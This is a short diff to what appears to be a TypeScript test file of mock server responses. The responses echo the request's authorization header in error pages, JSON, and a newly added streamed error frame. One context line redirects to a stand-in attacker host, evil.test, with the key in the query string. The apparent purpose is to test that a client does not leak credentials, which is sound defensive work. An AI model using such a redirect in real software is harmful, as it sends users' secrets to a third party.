@@ -63,6 +63,10 @@ const repeating: ReadonlyArray<readonly [name: string, script: Server.Script]> =
   ["502 in HTML", (_) => Server.text(`<html>${_.body} ${_.headers["authorization"]}</html>`, 502)()],
   ["200 that is none", (_) => Server.json({ echo: _.body, key: _.headers["authorization"] })()],
   ["a redirect", (_) => Server.text("", 302, { location: `http://evil.test/?key=${_.headers["authorization"]}` })()],
+  [
+    "an error in the stream",
+    (_) => Server.sse(Server.frames(["error", { error: `cannot say ${_.body} with ${_.headers["authorization"]}` }]))()
+  ],
   ["a lost connection", Server.lost],
   ["no server", Server.refused]
 ]
